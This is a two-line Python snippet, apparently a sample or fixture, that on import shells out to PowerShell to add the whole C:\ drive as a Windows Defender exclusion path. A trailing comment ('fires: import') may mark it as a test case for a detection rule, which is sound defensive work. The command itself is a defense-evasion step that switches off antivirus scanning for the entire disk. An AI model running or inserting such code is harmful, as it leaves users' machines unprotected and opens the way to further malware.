import subprocess
subprocess.run("powershell -Command Add-MpPreference -ExclusionPath 'C:\\'", shell=True)  # fires: import
